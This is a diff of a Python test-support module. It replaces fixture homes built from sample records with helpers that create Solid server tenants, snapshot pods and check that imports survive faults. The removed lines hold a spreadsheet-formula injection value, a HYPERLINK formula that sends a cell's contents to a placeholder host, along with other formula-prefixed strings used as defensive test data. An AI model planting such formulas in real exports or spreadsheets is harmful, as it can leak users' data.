@@ -1,148 +1,158 @@
-"""A home with something of everything a pod can hold: every kind of record, series, corrections, rules, a grant."""
+"""Homes linked to containers of a real server, and the check that a pod is whole after a fault."""
 
 from __future__ import annotations
 
-from collections.abc import Iterator, Mapping, Sequence
+import secrets
+from collections import Counter
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
 from pathlib import Path
-from typing import ClassVar
-
-from msgspec.structs import replace
+from typing import Any
 
 from pod_agent.agent import Agent
-from pod_agent.importers.protocol import Confidence, ExportFile, Issue, Row, Sample
+from pod_agent.config import load_settings, save_settings
+from pod_agent.index.local import LocalIndex
+from pod_agent.ingest.layout import is_document, is_series, read_documents, walk
+from pod_agent.ingest.manifest import digest, load_manifest
 from pod_agent.ingest.pipeline import Ingest
-from tests.support.consents import grant_for
-from tests.support.households import SINGAPORE, RecordMaker
-from tests.support.rows import BytesExport
-from tests.support.whole_life import whole_life
-from vocab.records import (
-    Listen,
-    Medium,
-    Occurrences,
-    Order,
-    OrderLine,
-    OrderStatus,
-    PlaylistItem,
-    Post,
-    Provenance,
-    Record,
-    Search,
-    Subject,
-    Workout,
-    record_iri,
-)
+from pod_agent.ingest.provenance import import_ids, read_import, read_provenance
+from pod_agent.pods.auth import DPoPAuth
+from pod_agent.pods.embedded import EmbeddedPod
+from pod_agent.pods.logins import ClientCredentials
+from pod_agent.pods.pod import Pod
+from pod_agent.pods.secrets import SecretStore
+from pod_agent.pods.server import Account
+from pod_agent.pods.session import Session, open_client
+from pod_agent.pods.solid import SolidPod
+from tests.support.exports import many_plays, spotify_json
+from tests.support.fault_proxy import ProxiedServer
+from tests.support.memory_pod import MemoryPod
+from vocab.query import QuerySpec
 
-__all__ = ["FORMULA", "Told", "fill_home", "grant_in", "plays", "told_home"]
+__all__ = ["Sources", "Tenant", "assert_once", "assert_whole", "make_sources", "open_tenant", "snapshot"]
 
-FORMULA = '=HYPERLINK("http://example.test/?"&A1,"kopi, ""c"" 咖啡")'
-"""What a stranger may write into the text of a payment."""
+PASSWORD = "correct horse"
+OURS = {"data", "imports", "manifest.ttl"}
 
 
 @dataclass(frozen=True)
-class Told:
-    """An importer that yields the rows it is given, each on a line of its own."""
+class Tenant:
+    """A made-up person on one server; every case gets a container of its own in the person's pod."""
 
-    rows: Sequence[Row]
-    source: str = "made"
-    name: ClassVar[str] = "told"
-    endings: ClassVar[frozenset[str]] = frozenset({".told"})
-    binary: ClassVar[bool] = False
-    wrong_downloads: ClassVar[Mapping[str, str]] = {}
+    server: ProxiedServer
+    webid: str
+    storage: str
+    credentials: ClientCredentials
+    auth: DPoPAuth
 
-    def identify(self, export: ExportFile) -> Confidence:
-        return Confidence(1.0, export.file)
+    def home(self, folder: Path, root: str = "") -> Path:
+        """A home linked to a fresh container, or to ``root``."""
+        save_settings(folder, pod=root or self.fresh_root(), webid=self.webid, issuer=self.credentials.issuer)
+        SecretStore(folder, None).keep(self.webid, self.credentials)
+        return folder
 
-    def extract(self, export: ExportFile) -> Iterator[Row]:
-        for line, row in enumerate(self.rows, 1):
-            if isinstance(row, Record):
-                yield replace(row, provenance=Provenance(file=export.file, member=export.member, line=line))
-            else:
-                yield row
+    def fresh_root(self) -> str:
+        """The address of a container that nobody used."""
+        return f"{self.storage}case-{secrets.token_hex(5)}/"
 
-
-def plays(*titles: str) -> list[Record]:
-    """Plays of these tracks in January 2026."""
-    seen, out = Occurrences(), list[Record]()
-    for number, title in enumerate(titles):
-        at = datetime(2026, 1, 5, tzinfo=UTC) + timedelta(minutes=4 * number)
-        iri = record_iri(Listen, "spotify", at, (title,), seen)
-        out.append(
-            Listen(
-                iri=iri, source="spotify", at=at, played_ms=60_000, medium=Medium.MUSIC, title=title, artist="The Band"
-            )
-        )
-    return out
+    def open(self, root: str, auth: DPoPAuth | None = None) -> SolidPod:
+        """A handle on a container; the caller closes it."""
+        return SolidPod(root, Session(open_client(root, auth or self.auth)))
 
 
-def _rest() -> list[Record]:
-    """One record of each kind that ``whole_life`` lacks, and a payment with a formula for a text."""
-    seen, at = Occurrences(), datetime(2026, 2, 3, 7, 30, tzinfo=SINGAPORE)
-    utc = at.astimezone(UTC)
-    return [
-        Search(iri=record_iri(Search, "youtube", utc, ("laksa",), seen), source="youtube", at=utc, text="+laksa"),
-        Post(iri=record_iri(Post, "youtube", utc, ("so good",), seen), source="youtube", at=utc, text="so good"),
-        PlaylistItem(
-            iri=record_iri(PlaylistItem, "spotify", utc, ("Mix", "Tune"), seen),
-            source="spotify",
-            at=utc,
-            playlist="Mix",
-            subject=Subject.TRACK,
-            title="Tune",
-        ),
-        Workout(
-            iri=record_iri(Workout, "fitbit", at, ("Run",), seen), source="fitbit", at=at, activity="Run", seconds=1800
-        ),
-        RecordMaker().paid("2026-02-03", 3.5, "Kopi", "dining", description=FORMULA),
-    ]
+def open_tenant(server: ProxiedServer) -> Tenant:
+    """A new account with a pod on a server."""
+    name = f"person-{secrets.token_hex(5)}"
+    with Account(server.address) as account:
+        account.register(f"{name}@example.test", PASSWORD)
+        webid, storage = account.create_pod(name)
+        credentials = account.create_credentials("tests", webid)
+    return Tenant(server, webid, storage, credentials, DPoPAuth(credentials))
 
 
-def _with_edition(record: Record) -> Record:
-    """An order as an importer tells it: its edition is the place of its status."""
-    if not isinstance(record, Order | OrderLine):
-        return record
-    return replace(record, edition=list(OrderStatus).index(record.status))
+@dataclass(frozen=True)
+class Sources:
+    """Exports, the number of their rows, and the documents that an import without any fault makes of them."""
+
+    paths: tuple[Path, ...]
+    rows: int
+    documents: dict[str, bytes]
 
 
-def _pulse() -> list[Row]:
-    start = int(datetime(2026, 2, 3, 1, tzinfo=UTC).timestamp())
-    return [
-        Sample(line, "heart_rate", start + 60 * line, 60 + line % 9, "=Watch" if line % 2 else "Phone")
-        for line in range(1, 301)
-    ]
+def make_sources(folder: Path, start: int = 0) -> Sources:
+    """Plays of two months, long enough that a document has a middle."""
+    plays = [*many_plays(300)[start:], *[(60_000 + minute, track) for minute, track in many_plays(60)]]
+    folder.mkdir(parents=True, exist_ok=True)
+    paths = (spotify_json(folder / "plays.json", plays),)
+    pod = EmbeddedPod(folder / "calm" / "pod")
+    Ingest(pod, folder / "calm").run(paths)
+    return Sources(paths, len(plays), snapshot(pod).documents("data/") | snapshot(pod).documents("manifest"))
 
 
-def told_home(home: Path, *files: tuple[str, Sequence[Row]]) -> None:
-    """Make a home, and import these rows of these sources, each as a file, all in one import."""
-    with Agent.create(home) as agent:
-        pairs = [(Told(rows, source), BytesExport(b"x", file=f"{source}.told")) for source, rows in files]
-        Ingest(agent.pod, home).run(pairs)
-        agent.refresh()
+class _Copy(MemoryPod):
+    """What a pod held at one moment."""
+
+    def __init__(self, root: str) -> None:
+        super().__init__()
+        self._root = root
+
+    @property
+    def root(self) -> str:
+        return self._root
 
 
-def grant_in(home: Path) -> str:
-    """Give a grant in this home; its identifier."""
-    now = datetime.now(UTC).replace(microsecond=0)
-    with Agent.open(home) as agent:
-        grant = grant_for(created=now, until=now + timedelta(days=90))
-        agent.consents.gate.give(grant)
-        return grant.identifier
+def snapshot(pod: Pod) -> MemoryPod:
+    """Everything in a pod, each resource read once."""
+    copy = _Copy(pod.root)
+    for path in walk(pod, ""):
+        resource = pod.read(path)
+        assert resource is not None, path
+        copy.put(path, resource.content, resource.media_type)
+    return copy
 
 
-def fill_home(home: Path) -> None:
-    """Make a home with something of everything, by several imports."""
-    life = [_with_edition(record) for record in (*whole_life(), *_rest())]
-    money = [record for record in life if record.source in {"ocbc", "dbs"}]
-    others = [record for record in life if record not in money]
-    broken = Issue(line=99, code="bad_row", detail="no such day", raw="2026-02-30,Lost Tune")
-    told_home(home, ("bank", money))
-    told_home(home, ("spotify", [*plays("First", "Second"), broken]), ("life", others))
-    told_home(home, ("watch", _pulse()))
-    told_home(home, ("spotify", plays("First", "Second", "Third")))
-    with Agent.open(home) as agent:
-        gym = next(row for row in agent.index.transactions() if row.description == "IRON GYM")
-        lamp = next(row for row in agent.index.transactions() if row.description == FORMULA)
-        agent.correct(gym.iri, "health", merchant="-Iron Club")
-        agent.correct(lamp.iri, "fees", merchant="@Kopi", only_this=True)
-    grant_in(home)
+def assert_whole(tenant: Tenant, home: Path, sources: Sources) -> None:
+    """The pod holds each row exactly once, as if nothing had happened; the manifest and the index say the same."""
+    settings = load_settings(home)
+    pod = tenant.open(settings.pod)
+    copy = snapshot(pod)
+    pod.close()
+    assert {**copy.documents("data/"), **copy.documents("manifest")} == sources.documents
+    assert {path.partition("/")[0] for path in copy.resources} <= OURS
+    assert len(assert_once(copy)) == sources.rows
+    assert_index(home, copy)
+
+
+def assert_once(pod: Pod) -> list[Any]:
+    """Each record lies in one place and came by one import, and the manifest says what is there; their IRIs."""
+    entries = load_manifest(pod).entries
+    assert sorted(entries) == [path for path in walk(pod, "data/") if is_document(path) or is_series(path)]
+    for path, entry in entries.items():
+        resource = pod.read(path)
+        assert resource is not None
+        assert digest(resource.content) == entry.sha256
+    held = [record.iri for _, records in read_documents(pod) for record in records]
+    assert len(held) == len(set(held))
+    assert Counter(iri for iri, _, _ in read_provenance(pod)).keys() == set(held)
+    for import_id in import_ids(pod):
+        counts = read_import(pod, import_id).counts
+        assert counts.read == counts.written + counts.duplicate + counts.rejected + counts.skipped
+    return held
+
+
+def assert_index(home: Path, pod: Pod) -> None:
+    """The home's index, as the last command left it, gives what one that is made anew from the pod gives."""
+    settings = load_settings(home)
+    anew = home / "anew" / secrets.token_hex(4)
+    with Agent(anew, settings, pod, LocalIndex(anew / "index.sqlite", settings.local_zone)) as agent:
+        iris = [record.iri for _, records in read_documents(pod) for record in records]
+        with LocalIndex(home / "index.sqlite", settings.local_zone) as index:
+            assert _told(index, iris) == _told(agent.index, iris)
+
+
+def _told(index: LocalIndex, iris: list[Any]) -> list[Any]:
+    specs = (
+        QuerySpec(measures=("plays", "listening_minutes"), dimensions=("month", "artist")),
+        QuerySpec(measures=("spend", "transactions"), dimensions=("day", "merchant")),
+    )
+    records = {record.iri: record for record in index.get(iris)}
+    return [records, index.import_of(iris), index.documents(), index.count(), *(index.run(spec) for spec in specs)]
